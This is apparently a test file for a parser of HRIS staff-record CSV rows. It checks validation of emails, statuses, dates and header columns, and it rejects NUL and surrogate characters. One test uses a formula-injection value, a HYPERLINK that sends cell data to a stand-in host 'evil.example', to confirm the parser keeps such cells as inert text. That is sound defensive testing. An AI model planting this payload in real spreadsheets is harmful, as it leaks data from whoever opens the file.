import { readHeader, readRow, type Header } from './hris-row';

const HEADER = 'staff_number,first_name,last_name,work_email,job_classification,site_code,site_name,parent_site_code,supervisor_staff_number,employment_status,start_date'.split(',');
const header = (readHeader(HEADER) as { header: Header }).header;
const values = (overrides: Record<string, string> = {}): string[] => {
  const row: Record<string, string> = {
    staff_number: 'E1001',
    first_name: 'Ana',
    last_name: 'Lopez',
    work_email: 'Ana.Lopez@LAUSD.net',
    job_classification: 'Custodian',
    site_code: 'S-101',
    site_name: 'Roosevelt High',
    parent_site_code: 'D-1',
    supervisor_staff_number: 'E2001',
    employment_status: 'active',
    start_date: '2019-08-12',
    ...overrides,
  };
  return HEADER.map((c) => row[c]);
};

describe('HRIS rows', () => {
  it('reads a valid row, normalising email and status, empty optionals as null', () => {
    expect(readRow(values({ parent_site_code: '', supervisor_staff_number: ' ' }), header)).toEqual({
      row: {
        staffNumber: 'E1001',
        firstName: 'Ana',
        lastName: 'Lopez',
        workEmail: 'ana.lopez@lausd.net',
        jobClassification: 'Custodian',
        siteCode: 'S-101',
        siteName: 'Roosevelt High',
        parentSiteCode: null,
        supervisorStaffNumber: null,
        employmentStatus: 'ACTIVE',
        startDate: '2019-08-12',
      },
    });
  });

  it('names every bad field by its column', () => {
    const result = readRow(values({ staff_number: '', work_email: 'nope', employment_status: 'RETIRED', start_date: '08/12/2019', parent_site_code: 'S-101' }), header);
    expect(result).toEqual({
      issues: [
        { field: 'staff_number', message: expect.any(String) },
        { field: 'work_email', message: 'must be an email address' },
        { field: 'parent_site_code', message: 'a site cannot be its own parent' },
        { field: 'employment_status', message: 'must be ACTIVE, ON_LEAVE or LEFT' },
        { field: 'start_date', message: 'must be a date as YYYY-MM-DD' },
      ],
    });
  });

  it('refuses self-supervision and a row of the wrong width', () => {
    expect(readRow(values({ supervisor_staff_number: 'E1001' }), header)).toEqual({ issues: [{ field: 'supervisor_staff_number', message: 'a person cannot supervise themself' }] });
    expect(readRow(['E1', 'Ana'], header)).toEqual({ issues: [{ field: null, message: 'has 2 fields; the header has 11' }] });
  });

  it('matches headers case-insensitively and in any order, names missing required columns', () => {
    expect('header' in readHeader([...HEADER].reverse().map((h) => ` ${h.toUpperCase()} `))).toBe(true);
    expect(readHeader(['staff_number', 'first_name'])).toEqual({
      issues: ['last_name', 'job_classification', 'site_code', 'site_name', 'employment_status', 'start_date'].map((field) => ({ field, message: 'required column is missing from the header' })),
    });
  });

  it('refuses an unknown, unnamed or repeated column, naming it', () => {
    expect(readHeader([...HEADER, 'cost_centre'])).toEqual({
      issues: [
        {
          field: 'cost_centre',
          message:
            'unknown column "cost_centre" (column 12); the columns are staff_number, first_name, last_name, job_classification, site_code, site_name, employment_status, start_date ' +
            'and, optionally, work_email, parent_site_code, supervisor_staff_number',
        },
      ],
    });
    expect(readHeader([...HEADER, 'Site_Code', ''])).toEqual({
      issues: [
        { field: 'site_code', message: 'column site_code appears more than once in the header (columns 6 and 12)' },
        { field: null, message: 'column 13 of the header has no name' },
      ],
    });
    // A name that could not be stored is shown escaped, and is not the field.
    expect(readHeader([...HEADER, 'x\u0000'])).toEqual({ issues: [{ field: null, message: expect.stringContaining('unknown column "x\\u0000" (column 12)') }] });
  });

  it('keeps cells that a spreadsheet would run as formulas as the text they are', () => {
    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
    expect(readRow(values({ first_name: formula, last_name: '@SUM(1+1)', job_classification: '+Custodian', site_name: '-Annex' }), header)).toEqual({
      row: expect.objectContaining({ firstName: formula, lastName: '@SUM(1+1)', jobClassification: '+Custodian', siteName: '-Annex' }),
    });
  });

  it('refuses text PostgreSQL cannot store (NUL, an unpaired surrogate) in any cell, naming the field, ahead of its own rule', () => {
    expect(readRow(values({ first_name: 'A\u0000na', staff_number: 'E1\u0000', site_name: 'Hall \uD800', start_date: 'soon' }), header)).toEqual({
      issues: [
        { field: 'staff_number', message: 'contains a NUL character (U+0000), which cannot be stored' },
        { field: 'first_name', message: 'contains a NUL character (U+0000), which cannot be stored' },
        { field: 'site_name', message: 'contains an unpaired UTF-16 surrogate (U+D800), which is not valid Unicode' },
        { field: 'start_date', message: 'must be a date as YYYY-MM-DD' },
      ],
    });
    // A well-formed pair is a character like any other.
    expect(readRow(values({ first_name: 'Ana \u{1F600}' }), header)).toEqual({ row: expect.objectContaining({ firstName: 'Ana \u{1F600}' }) });
    expect(readRow(values({ last_name: 'Lopez\uDFFF' }), header)).toEqual({ issues: [{ field: 'last_name', message: expect.stringContaining('U+DFFF') }] });
    // What the parser hands on in its place, as for bytes that are not UTF-8.
    expect(readRow(values({ last_name: 'Jos\uFFFD' }), header)).toEqual({ issues: [{ field: 'last_name', message: expect.stringMatching(/^contains U\+FFFD, which stands for text that was not valid Unicode/) }] });
  });
});
